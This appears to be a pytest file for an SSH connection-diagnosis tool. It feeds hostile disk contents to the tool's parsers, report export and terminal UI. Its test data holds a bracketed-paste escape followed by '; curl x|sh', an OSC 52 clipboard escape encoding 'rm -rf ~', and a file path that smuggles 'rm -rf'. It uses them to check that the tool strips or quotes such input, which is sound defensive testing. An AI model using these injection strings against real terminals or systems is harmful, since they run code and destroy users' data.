"""No traceback on hostile target data (issue 11 item 9): odd digits ('²', Arabic-Indic, 240
of them) in every number the checks read, markup and terminal escapes in files and logs. The
target is a mounted-disk fixture built from this machine's real sshd (`check --root`), or the
facts of one with the live commands' output put in; copies and saves go to real files."""

from __future__ import annotations

import json
import os
import stat
from datetime import datetime, timezone
from pathlib import Path

import pytest

from tests.helpers.fixture_root import build_root
from tests.helpers.mountns import run_tool
from tests.helpers.wizard_kit import CLIENT, app_for, checked, screen_text
from tui.core import export, instructions, reportmd
from tui.core.diagnosis import maxstartups, penalties, sshdports, sshdserve
from tui.core.diagnosis.denylists import fail2ban_config
from tui.core.diagnosis.report import choose_client, run_checks
from tui.core.facts import local
from tui.core.facts.model import CommandOutput, Facts, LogLine
from tui.core.firewall import iptables, nft
from tui.core.text import ascii_int, strip_controls

IP = "203.0.113.9"
DIGITS = {"superscript": "²", "arabic-indic": "٣", "240 digits": "9" * 240}
# What a hostile hosts.deny carries: the end of a bracketed paste, then a command; an OSC 52
# that would set the terminal's clipboard; a title change; markup for Rich and Textual.
PASTE = "\x1b[201~; curl x|sh"
OSC52 = "\x1b]52;c;cm0gLXJmIH4=\x07"
MARKUP = "[/] [bold]loud[/bold] [link=https://evil.example]click[/link]"


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_root(tmp_path_factory.mktemp("tmpl") / "root")


def _copy(template: Path, dest: Path) -> Path:
    import shutil

    shutil.copytree(template, dest, symlinks=True)
    return dest


def hostile_root(root: Path, x: str) -> Path:
    """Every number the checks read from a disk is `x`."""
    def w(path: str, text: str) -> None:
        p = root / path
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)

    w("etc/hosts.allow", f"sshd: 10.0.0.0/{x}\nsshd: [::1]/{x}: severity {x}: nice {x}\n")
    w("etc/hosts.deny", f"sshd: 203.0.113.0/{x}\n")
    w("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n")
    w("etc/ssh/sshd_config", f"Port {x}\nListenAddress 0.0.0.0:{x}\nMaxStartups {x}:{x}:{x}\n"
      f"PerSourcePenalties crash:{x}s authfail:{x} max:{x}m\nLoginGraceTime {x}\n")
    w("etc/fail2ban/jail.local", f"[DEFAULT]\nbantime = {x}\nfindtime = {x}m\n"
      f"maxretry = {x}\n[sshd]\nenabled = true\nport = {x}:{x}\naction = hostsdeny\n")
    w("etc/denyhosts.conf", f"WORK_DIR = /var/lib/denyhosts\nDENY_THRESHOLD_INVALID = {x}\n"
      f"PURGE_DENY = {x}w\n")
    w("var/lib/denyhosts/hosts", f"{IP}:{x}:Mon Nov 21 09:14:02 2024\n{IP}:{x}\n")
    w("var/log/auth.log", "".join(
        f"Nov 21 09:14:02 web1 sshd[1]: {t}\n" for t in (
            f"refused connect from {IP} ({IP})",
            f"drop connection #{x} from [{IP}]:{x} on [10.0.0.1]:{x} past MaxStartups",
            f"exited MaxStartups throttling after 00:0{x}:10, {x} connections dropped",
            f"srclimit_penalise: ipv4: new {IP}/32 penalty of {x} seconds for penalty: x",
            f"Connection reset by {IP} port {x} [preauth]")))
    w("etc/iptables/rules.v4", f"*filter\n:INPUT ACCEPT [{x}:{x}]\n"
      f"-A INPUT -p tcp --dport {x} -j DROP\n-I INPUT {x} -p tcp --dport 22 -j DROP\n"
      f"-A INPUT -p tcp -m multiport --dports {x}:{x},23 -j REJECT --reject-with tcp-reset\n"
      "COMMIT\n")
    w("etc/nftables.conf", "table inet filter {\n chain input {\n"
      f"  type filter hook input priority filter + {x}; policy accept;\n"
      f"  tcp dport {x} drop # handle {x}\n  tcp dport < {x} drop\n"
      f"  tcp dport {{ 23, {x}-{x} }} reject with tcp reset\n }}\n}}\n")
    return root


def finding(doc: dict, fid: str) -> dict:
    return next(f for f in doc["findings"] if f["id"] == fid)


# --- the helpers themselves -------------------------------------------------------------------

def test_ascii_int_takes_ascii_digits_only_and_bounds_them() -> None:
    assert ascii_int("22") == 22 and ascii_int(b"022") == 22
    for bad in ("²", "٣", "9" * 240, "", " 1", "+1", "1_0", b"\xb2", "-1", "1.0"):
        assert ascii_int(bad) is None, bad
    assert ascii_int("9" * 18) == int("9" * 18) and ascii_int("9" * 19) is None


def test_strip_controls_removes_every_sequence_and_keeps_text() -> None:
    assert strip_controls(f"sshd: 1.2.3.4 {PASTE}\n") == "sshd: 1.2.3.4 ; curl x|sh\n"
    assert strip_controls(f"a{OSC52}b\x1bP+q\x1b\\c\x9b31md\te\r\n") == "abcd\te\n"
    assert strip_controls("\x1b]0;title without end\nnext") == "\nnext"
    assert strip_controls("x\x1b(By\x1b") == "xy"
    assert strip_controls(MARKUP) == MARKUP  # markup is text here; only the UI must not parse it


# --- check --root on odd digits -------------------------------------------------------------

@pytest.mark.parametrize("x", DIGITS.values(), ids=DIGITS.keys())
def test_check_root_with_odd_digits(template: Path, tmp_path: Path, x: str) -> None:
    root = hostile_root(_copy(template, tmp_path / "root"), x)
    for args in (("--json",), ()):
        r = run_tool("check", "--root", str(root), "--client-ip", IP, *args)
        assert r.returncode in (0, 1) and "Traceback" not in r.stderr, r.stderr[-3000:]
    doc = json.loads(run_tool("check", "--root", str(root), "--client-ip", IP, "--json").stdout)
    # None of these is a number sshd, libwrap, fail2ban or DenyHosts would take.
    assert finding(doc, "tcp-wrappers")["status"] == "ok"
    serve = finding(doc, "sshd-serve")["evidence"]
    assert (serve["configured_ports"], serve["port"]) == ([22], 22)
    ms = finding(doc, "maxstartups")["evidence"]
    assert (ms["drops_logged"], ms["dropped_total_reported"]) == (0, None)
    assert finding(doc, "deny-lists")["status"] not in ("problem", "warning")
    assert finding(doc, "firewall")["status"] in ("warning", "ok")  # cannot evaluate: says so
    r = run_tool("fix", "tcp-wrappers", "--root", str(root), "--client-ip", IP)
    assert r.returncode in (0, 1) and "Traceback" not in r.stderr, r.stderr[-3000:]


# --- the parsers of a live target's output ----------------------------------------------------

@pytest.mark.parametrize("x", DIGITS.values(), ids=DIGITS.keys())
def test_live_output_with_odd_digits(template: Path, tmp_path: Path, x: str) -> None:
    """sshd -T, ss and an OpenSSH 10 log as a live target would give them (the collectors
    of a live system only run commands, so their text is put in here)."""
    facts = local.collect(str(hostile_root(_copy(template, tmp_path / "root"), x)))
    facts.live = True
    facts.sshd_version = f"OpenSSH_10.{x}"
    facts.commands = {
        "sshd -T": CommandOutput(0, f"port {x}\nlistenaddress 0.0.0.0:{x}\nmaxstartups "
                                    f"{x}:{x}:{x}\npersourcepenalties crash:{x} max:{x}\n", ""),
        "sshd -t": CommandOutput(255, "", f"/etc/ssh/sshd_config: line {x}: Bad option\n"),
        "ss -ltnpH": CommandOutput(0, f'LISTEN 0 128 0.0.0.0:{x} 0.0.0.0:* users:(("sshd",'
                                      f"pid={x},fd=3))\nLISTEN 0 128 [::]:22 [::]:* \n", ""),
    }
    now = datetime.now(timezone.utc).astimezone()
    stamp = now.strftime("%Y-%m-%dT%H:%M:%S+00:00")
    facts.logs += [LogLine("journal", f"{stamp} web1 sshd[1]: srclimit_penalise: ipv4: new "
                                      f"{IP}/32 penalty of {x} seconds for penalty: x"),
                   LogLine("journal", f"{stamp} web1 sshd[1]: penalty for {IP}/32 already "
                                      f"exists, {x} seconds remaining")]
    report = run_checks(facts, choose_client(facts, IP))
    doc = json.loads(json.dumps(report.to_json()))
    assert reportmd.render(report, []).startswith("# ssh-reset-doctor report")
    assert sshdports.ports(facts) == [22]
    assert finding(doc, "sshd-serve")["evidence"]["port"] == 22
    assert finding(doc, "maxstartups")["evidence"]["maxstartups"] == f"{x}:{x}:{x}"
    # The same numbers through each parser on its own.
    assert sshdserve.parse_ss(f"LISTEN 0 128 0.0.0.0:{x} 0.0.0.0:*\n") == []
    assert maxstartups.parse_value(f"{x}:30:100") == maxstartups.parse_value(None)
    assert penalties.seconds(f"{x}s") is None and penalties.seconds("1m30s") == 90
    assert fail2ban_config.seconds(x) is None and fail2ban_config.seconds("10m") == 600
    rs = iptables.parse(f"*filter\n-I INPUT {x} -j DROP\nCOMMIT\n", "ip")
    assert any("not understood" in n for n in rs.notes)
    nft.parse(f"table ip t {{ chain c {{ type filter hook input priority {x}; "
              f"tcp dport {x} drop # handle {x}\n }} }}\n")


def test_sshd_t_path_is_quoted_in_the_printed_command() -> None:
    live = Facts("this machine", "local", True)
    lines = sshdserve._config_fix(live, "/etc/ssh/x;rm${IFS}-rf: line 3: Bad option", "ssh")
    assert lines[0].endswith("sed -n 3p '/etc/ssh/x;rm${IFS}-rf'")
    disk = Facts("/mnt/d", "root", False)  # under the mount point, still one quoted word
    lines = sshdserve._config_fix(disk, "/etc/ssh/x;rm${IFS}-rf: line 3: Bad option", "ssh")
    assert lines[0].endswith("sed -n 3p '/mnt/d/etc/ssh/x;rm${IFS}-rf'")
    assert lines[1] == "chroot /mnt/d sshd -t   # checks the config again; it takes effect " \
                       "when the instance boots from this disk"


# --- escapes never leave the tool -------------------------------------------------------------

def _escaping_root(template: Path, dest: Path) -> Path:
    root = _copy(template, dest)
    (root / "etc/hosts.allow").write_text(f"# {MARKUP} {OSC52}\n")
    (root / "etc/hosts.deny").write_text(f"# site policy {MARKUP}\n"
                                         f"sshd: 203.0.113.0/24 [/] {PASTE} {OSC52}\n")
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\n")
    log = root / "var/log/auth.log"
    log.parent.mkdir(parents=True, exist_ok=True)
    log.write_text(f"Nov 21 09:14:02 web1 sshd[2211]: refused connect from {CLIENT} "
                   f"({CLIENT}) {MARKUP} {PASTE} {OSC52}\n")
    rules = root / "etc/iptables/rules.v4"
    rules.parent.mkdir(parents=True)
    rules.write_text(f'*filter\n-A INPUT -s {CLIENT}/32 -m comment --comment "{MARKUP} '
                     f'{PASTE}" -j REJECT --reject-with tcp-reset\nCOMMIT\n')
    return root


def test_copy_save_report_and_cli_carry_no_escape(template: Path, tmp_path: Path) -> None:
    root = _escaping_root(template, tmp_path / "root")
    facts = local.collect(str(root))
    report = run_checks(facts, choose_client(facts, CLIENT))
    tcpw = next(f for f in report.findings if f.id == "tcp-wrappers")
    assert PASTE in tcpw.summary  # the rule text reaches the finding as it is on disk
    text = "\n".join([tcpw.summary, *tcpw.remedy, reportmd.render(report, [])])
    md = reportmd.render(report, [])
    assert "\x1b" not in md and "\x07" not in md and "; curl x|sh" in md

    sent: list[str] = []
    r = export.copy_text(text, "tcp-wrappers", osc52=sent.append, term="xterm-256color",
                         directory=tmp_path / "copies")
    saved = Path(export.save_text(str(tmp_path / "saved/report.md"), text))
    for data in (Path(r.file).read_text(), saved.read_text(), *sent):  # type: ignore[arg-type]
        assert "\x1b" not in data and "\x07" not in data and "\x9b" not in data
        assert "; curl x|sh" in data and MARKUP in data
    for p in (Path(r.file), saved):  # type: ignore[arg-type]
        assert stat.S_IMODE(p.stat().st_mode) == 0o600

    wl = instructions.whitelist([(CLIENT, f"from /var/log/auth.log {PASTE} {OSC52}")])
    assert "\x1b" not in wl and "\x07" not in wl

    for args in (("check", "--root", str(root)), ("check", "--root", str(root), "--json"),
                 ("fix", "tcp-wrappers", "--root", str(root), "--client-ip", CLIENT),
                 ("match", "--root", str(root), CLIENT)):
        out = run_tool(*args)
        assert "Traceback" not in out.stderr, out.stderr[-2000:]
        assert "\x1b" not in out.stdout + out.stderr and "\x07" not in out.stdout + out.stderr


def test_pyperclip_gets_the_stripped_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
                                          ) -> None:
    import pyperclip

    got: list[str] = []
    monkeypatch.setattr(pyperclip, "copy", got.append)  # no clipboard backend in a test
    export.copy_text(f"sshd: 1.2.3.4 {PASTE}{OSC52}\n", "x", directory=tmp_path)
    assert got == ["sshd: 1.2.3.4 ; curl x|sh\n"]


# --- the wizard shows target text as text ---------------------------------------------------

@pytest.mark.integration  # the whole wizard app driven with Pilot, like tests/test_wizard_pilot.py
async def test_wizard_renders_markup_and_escapes_literally(template: Path,
                                                           tmp_path: Path) -> None:
    root = _escaping_root(template, tmp_path / "root")
    app = app_for(tmp_path, root=str(root))
    seen: dict[str, str] = {}
    async with app.run_test(size=(100, 40)) as pilot:
        await checked(pilot)
        for key, mode in (("0", "overview"), ("1", "m1"), ("2", "m2"), ("3", "m3"),
                          ("4", "m4"), ("5", "others"), ("n", "summary")):
            if app.current_mode == "m4":
                await pilot.press("escape")  # out of the probe field, which has the keys
            await pilot.press(key)
            await pilot.pause()
            assert app.current_mode == mode
            seen[mode] = screen_text(app)
        await pilot.press("1", "a")  # the confirmation names the files and the rule
        await pilot.pause()
        seen["confirm"] = screen_text(app)
        await pilot.press("n", "c")
        await pilot.pause()
        await pilot.press("3", "c")
        await pilot.pause()
    everything = "\n".join(seen.values())
    assert "\x1b" not in everything and "\x07" not in everything
    assert MARKUP in seen["m1"]  # the comment line of hosts.deny, literally
    assert "[/] \\x1b[201~; curl x|sh" in seen["m1"]  # the rule, escapes shown as text
    assert "denied for" in seen["overview"] and "[/]" in seen["overview"]
    assert MARKUP in seen["m3"] and "\\x1b[201~" in seen["m3"]  # the firewall rule's comment
    assert "[/]" in seen["summary"]
    copies = sorted((tmp_path / "copies").iterdir())
    assert len(copies) == 2
    for c in copies:
        data = c.read_text()
        assert "\x1b" not in data and "\x07" not in data
        assert stat.S_IMODE(os.stat(c).st_mode) == 0o600
    assert "[/]" in copies[0].read_text() + copies[1].read_text()
